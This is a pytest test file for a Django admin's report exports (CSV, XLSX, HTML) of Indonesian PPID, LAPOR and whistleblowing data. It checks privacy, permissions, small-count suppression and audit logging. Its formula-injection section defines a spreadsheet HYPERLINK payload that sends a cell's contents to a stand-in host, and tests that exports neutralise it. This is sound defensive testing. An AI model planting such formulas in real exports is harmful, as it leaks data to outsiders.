"""Report downloads (CSV, XLSX, printable HTML) through the admin: contents parsed back, no personal data by
default, personal data only with the permission AND the explicit option, WBS suppression, one audit entry per
export, role access."""

import csv
import io
import zipfile

import pytest
from django.utils.translation import gettext as _
from openpyxl import load_workbook

from layanan.core.models.audit import ExportLog
from layanan.ppid.models import EXEMPTION_GROUNDS
from tests.layanan.test_reports import at, lapor_month, ppid_year
from tests.layanan.test_statistics import PERSONAL, inspektorat, wbs_year

pytestmark = pytest.mark.django_db

#: Fixtures shared with the other report tests (pytest finds them by name in this module).
SHARED_FIXTURES = (
    at,
    lapor_month,
    ppid_year,
    PERSONAL,
    inspektorat,
    wbs_year,
)

PPID_EXPORT = "/admin/layanan-reports/ppid_annual/export/"
LAPOR_EXPORT = "/admin/layanan-reports/lapor_monthly/export/"
WBS_EXPORT = "/admin/layanan-reports/wbs/export/"


def _csv(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _summary(rows):
    """``{(kode_bagian, kode_uraian, ukuran): nilai}`` of a summary CSV."""
    header = rows[0]
    assert header[:4] == ["Bagian", "Uraian", "Ukuran", "Nilai"]
    return {(r[4], r[5], r[2]): r[3] for r in rows[1:]}


def _xlsx(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _all_cells(workbook) -> str:
    return "\n".join(
        str(v) for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True) for v in row if v
    )


def test_ppid_csv_summary_holds_every_figure_and_is_audited(client, ppid_year, desk_users):
    user = desk_users["ppid"]
    client.force_login(user)
    rows = _csv(client.get(PPID_EXPORT, {"year": 2025, "format": "csv"}))
    figures = _summary(rows)
    assert figures[("summary", "requests", "Jumlah")] == "7"
    assert figures[("summary", "answered_late", "Jumlah")] == "1"
    assert figures[("summary", "extensions", "Jumlah")] == "1"
    assert figures[("outcomes", "granted_part", "Jumlah")] == "1"
    assert figures[("rejections", "h", "Jumlah")] == "1"
    assert figures[("by_channel", "walk_in", "Jumlah")] == "1"
    assert figures[("time_taken", "all", "Median (HK)")] == "4.5"
    assert figures[("time_taken", "all", "Terlama (HK)")] == "16"
    assert figures[("objections_by_reason", "f", "Dijawab terlambat")] == "1"
    assert figures[("disputes", "pending", "Jumlah")] == "1"
    log = ExportLog.objects.get()
    assert (log.user, log.username, log.report, log.export_format) == (user, "ppid", "ppid_annual", "csv")
    assert log.parameters == {"year": 2025, "content": "summary"}
    assert log.personal_data is False and log.rows == 0


def test_ppid_ticket_list_csv_has_no_personal_data_by_default(client, ppid_year, desk_users):
    client.force_login(desk_users["ppid"])
    response = client.get(PPID_EXPORT, {"year": 2025, "format": "csv", "content": "requests"})
    rows = _csv(response)
    body = response.content.decode("utf-8-sig")
    for value in PERSONAL:
        assert value not in body, value
    header, data = rows[0], rows[1:]
    assert _("NIK") not in header and _("Name") not in header
    assert len(data) == 7
    by_number = {r[0]: dict(zip(header, r, strict=True)) for r in data}
    r3 = by_number[ppid_year["R3"].tracking_number]
    taken, late, ground = _("Working days taken"), _("Late"), _("Pasal 17 ground")
    # the ground's label, never its letter (issue 17)
    assert (r3[taken], r3[late], r3[ground]) == ("11", _("yes"), str(EXEMPTION_GROUNDS.H.label))
    received = r3[_("Received (%(tz)s)") % {"tz": "WIB"}]
    assert "." not in received and len(received) == len("2025-10-01 09:00:00")  # no microseconds
    assert by_number[ppid_year["R4"].tracking_number][taken] == "5"
    assert ppid_year["old"].tracking_number not in by_number
    log = ExportLog.objects.get()
    assert log.parameters["content"] == "requests" and log.rows == 7


def test_personal_data_needs_the_option_and_the_permission(client, ppid_year, desk_users, make_user):
    client.force_login(desk_users["ppid"])  # PPID Utama holds view_personal_data
    response = client.get(PPID_EXPORT, {"year": 2025, "format": "csv", "content": "requests", "personal_data": "1"})
    rows = _csv(response)
    assert {_("Name"), _("NIK"), _("E-mail"), _("Phone")} <= set(rows[0])
    assert "3171234567890001" in response.content.decode("utf-8-sig")
    assert ExportLog.objects.get().personal_data is True

    # a PPID officer without view_personal_data: the option is refused, nothing exported, nothing logged
    from django.contrib.auth.models import Group, Permission

    group = Group.objects.create(name="PPID tanpa data pribadi")
    group.permissions.add(
        Permission.objects.get(codename="handle_ppid"),
        Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin"),
    )
    officer = make_user("officer")
    officer.groups.add(group)
    client.force_login(officer)
    assert _denied(client.get(PPID_EXPORT, {"year": 2025, "format": "csv", "personal_data": "1"}))
    assert ExportLog.objects.count() == 1
    # and without the option the same officer gets the anonymous list
    assert client.get(PPID_EXPORT, {"year": 2025, "format": "csv", "content": "requests"}).status_code == 200


def test_ppid_xlsx_parsed_back(client, ppid_year, desk_users):
    client.force_login(desk_users["ppid"])
    workbook = _xlsx(client.get(PPID_EXPORT, {"year": 2025, "format": "xlsx"}))
    names = workbook.sheetnames
    assert names[0] == _("Information")
    assert {"Ringkasan", "Permohonan", "Keberatan"} <= set(names)
    summary = {row[0]: row[1] for row in workbook["Ringkasan"].iter_rows(min_row=2, values_only=True)}
    assert summary["Permohonan diterima"] == 7
    assert summary["Keberatan diterima"] == 4
    assert summary["Sengketa ke Komisi Informasi"] == 2
    requests = list(workbook["Permohonan"].iter_rows(values_only=True))
    assert len(requests) == 8  # header + 7
    objections = list(workbook["Keberatan"].iter_rows(values_only=True))
    assert len(objections) == 5
    text = _all_cells(workbook)
    for value in PERSONAL:
        assert value not in text, value
    log = ExportLog.objects.get()
    assert (log.export_format, log.rows, log.parameters) == ("xlsx", 11, {"year": 2025, "content": "all"})


def test_printable_page_has_figures_and_signature_block(client, ppid_year, desk_users):
    client.force_login(desk_users["ppid"])
    response = client.get(PPID_EXPORT, {"year": 2025, "format": "html"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
    html = response.content.decode()
    assert "Laporan tahunan PPID 2025" in html
    assert "window.print()" in html and "@media print" not in html  # print CSS is the linked stylesheet
    assert "layanan/reports.css" in html
    assert "NIP" in html and "PPID Utama" in html
    for value in PERSONAL:
        assert value not in html
    assert ExportLog.objects.get().export_format == "html"


def test_lapor_csv_and_xlsx(client, lapor_month, desk_users):
    client.force_login(desk_users["lapor"])
    figures = _summary(_csv(client.get(LAPOR_EXPORT, {"year": 2025, "month": 10, "format": "csv"})))
    assert figures[("summary", "received", "Jumlah")] == "5"
    assert figures[("summary", "completed", "Jumlah")] == "2"
    assert figures[("summary", "completion_mean", "Jumlah")] == "10.0"
    assert figures[("by_unit", "none", "Diteruskan")] == "1"
    workbook = _xlsx(client.get(LAPOR_EXPORT, {"year": 2025, "month": 10, "format": "xlsx"}))
    reports = list(workbook["Laporan"].iter_rows(values_only=True))
    assert len(reports) == 6
    text = _all_cells(workbook)
    for value in PERSONAL:
        assert value not in text, value
    logs = list(ExportLog.objects.order_by("at", "pk").values_list("report", "export_format", "parameters"))
    assert logs == [
        ("lapor_monthly", "csv", {"year": 2025, "month": 10, "content": "summary"}),
        ("lapor_monthly", "xlsx", {"year": 2025, "month": 10, "content": "all"}),
    ]


def test_wbs_export_suppresses_small_counts_unless_the_inspektorat_asks(client, wbs_year, inspektorat):
    client.force_login(inspektorat)
    figures = _summary(_csv(client.get(WBS_EXPORT, {"year": 2025, "format": "csv"})))
    assert figures[("by_type", "bribery", "Jumlah")] == "6"
    assert figures[("by_type", "gratification", "Jumlah")] == "<5"
    assert figures[("by_type", "all", "Jumlah")] == "13"
    # no ticket list leaves the Inspektorat suppressed
    assert client.get(WBS_EXPORT, {"year": 2025, "format": "csv", "content": "reports"}).status_code == 400
    workbook = _xlsx(client.get(WBS_EXPORT, {"year": 2025, "format": "xlsx"}))
    assert "Laporan" not in workbook.sheetnames
    assert "Pelapor Rahasia" not in _all_cells(workbook)
    # explicit: exact counts, ticket list, identity
    figures = _summary(_csv(client.get(WBS_EXPORT, {"year": 2025, "format": "csv", "unsuppressed": "1"})))
    assert figures[("by_type", "gratification", "Jumlah")] == "2"
    workbook = _xlsx(client.get(WBS_EXPORT, {"year": 2025, "format": "xlsx", "unsuppressed": "1"}))
    assert len(list(workbook["Laporan"].iter_rows(values_only=True))) == 14
    assert "Pelapor Rahasia" not in _all_cells(workbook)
    workbook = _xlsx(
        client.get(WBS_EXPORT, {"year": 2025, "format": "xlsx", "unsuppressed": "1", "personal_data": "1"})
    )
    assert "Pelapor Rahasia" in _all_cells(workbook)
    logs = list(ExportLog.objects.order_by("at", "pk").values_list("unsuppressed", "personal_data"))
    assert logs == [(False, False), (False, False), (True, False), (True, False), (True, True)]


def _denied(response):
    """Wagtail answers a PermissionDenied in the admin with a redirect to the dashboard (and a message)."""
    return response.status_code == 403 or (response.status_code == 302 and response["Location"] == "/admin/")


def test_roles_that_may_not_export(client, ppid_year, wbs_year, desk_users, django_user_model):
    client.force_login(desk_users["op1"])
    assert _denied(client.get(PPID_EXPORT, {"year": 2025, "format": "csv"}))
    assert _denied(client.get(WBS_EXPORT, {"year": 2025, "format": "csv"}))
    client.force_login(desk_users["ppid"])
    assert _denied(client.get(LAPOR_EXPORT, {"year": 2025, "month": 10, "format": "csv"}))
    assert _denied(client.get(WBS_EXPORT, {"year": 2025, "format": "csv"}))
    boss = django_user_model.objects.create_superuser("boss", "boss@example.org", "pw")
    client.force_login(boss)
    assert _denied(client.get(WBS_EXPORT, {"year": 2025, "format": "csv"}))
    assert client.get(PPID_EXPORT, {"year": 2025, "format": "csv"}).status_code == 200
    assert ExportLog.objects.count() == 1


def test_bad_parameters_are_400_in_indonesian(client, desk_users):
    client.force_login(desk_users["ppid"])
    response = client.get(PPID_EXPORT, {"year": "20x5", "format": "csv"})
    assert response.status_code == 400 and "tahun" in response.content.decode().lower()
    response = client.get(PPID_EXPORT, {"year": 2025, "format": "docx"})  # PDF is a format since issue 17
    assert response.status_code == 400 and "CSV" in response.content.decode()
    assert ExportLog.objects.count() == 0


# --- issue 15 item 5: formula injection ---------------------------------------------------------------------
FORMULA_NAME = '=HYPERLINK("http://contoh.invalid/?d="&A2,"klik")'
FORMULA_SUBJECT_STARTS = ("+62 811", "-1+1", "@SUM(1)", "\tTAB")


@pytest.fixture
def poisoned_request(ppid_year):
    """A 2025 request filed with a formula as the applicant's name and formula-like texts elsewhere."""
    from layanan.core.models.tickets import Ticket

    ticket = ppid_year["R3"]
    Ticket.objects.filter(pk=ticket.pk).update(applicant_name=FORMULA_NAME, applicant_phone="+6281100011")
    return ticket


def test_csv_export_never_starts_a_cell_with_a_formula(client, poisoned_request, desk_users):
    client.force_login(desk_users["ppid"])
    response = client.get(PPID_EXPORT, {"year": 2025, "format": "csv", "content": "requests", "personal_data": "1"})
    rows = _csv(response)
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA_NAME in cells  # the text is kept, shown as text
    assert "'+6281100011" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_xlsx_export_stores_formula_like_text_as_text(client, poisoned_request, desk_users):
    client.force_login(desk_users["ppid"])
    response = client.get(PPID_EXPORT, {"year": 2025, "format": "xlsx", "personal_data": "1"})
    workbook = _xlsx(response)
    found = [
        cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == FORMULA_NAME
    ]
    assert found and all(cell.data_type == "s" for cell in found)  # text, not a formula
    assert all(cell.quotePrefix for cell in found)
    raw = zipfile.ZipFile(io.BytesIO(response.content))
    sheets = [raw.read(n).decode() for n in raw.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets)  # no formula anywhere in the workbook


@pytest.mark.parametrize("text", FORMULA_SUBJECT_STARTS)
def test_every_formula_trigger_is_neutralised(text):
    from layanan.reports.exports import spreadsheet_text

    assert spreadsheet_text(text) == "'" + text
    assert spreadsheet_text(-5) == -5 and spreadsheet_text("Budi") == "Budi"
